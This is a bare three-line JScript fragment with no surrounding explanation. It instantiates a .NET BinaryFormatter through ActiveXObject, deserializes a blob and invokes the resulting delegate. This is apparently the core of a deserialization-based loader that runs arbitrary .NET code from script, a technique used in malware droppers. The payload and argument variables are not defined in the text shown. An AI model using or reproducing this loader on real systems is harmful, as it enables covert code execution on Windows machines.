var f = new ActiveXObject("System.Runtime.Serialization.Formatters.Binary.BinaryFormatter");
var d = f.Deserialize_2(s);
d.DynamicInvoke(l.ToArray());
